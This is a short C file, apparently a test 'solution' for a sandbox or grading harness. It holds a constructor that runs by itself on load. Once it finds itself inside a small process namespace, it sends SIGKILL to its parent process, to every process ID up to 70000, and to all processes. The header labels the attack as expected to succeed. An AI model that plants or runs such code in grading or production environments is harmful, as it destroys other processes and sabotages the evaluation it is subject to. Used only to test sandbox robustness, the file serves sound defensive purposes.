/* on: solution
   expect: full
   why: kills its parent, then every process that there is */
#include <signal.h>
#include <unistd.h>

/* Everybody only in a process namespace of its own, where numbers are small. */
__attribute__((constructor)) static void attack(void) {
    if (getpid() > 50)
        return;
    kill(getppid(), SIGKILL);
    for (int process = 1; process < 70000; process++)
        if (process != getpid())
            kill(process, SIGKILL);
    kill(-1, SIGKILL);
}
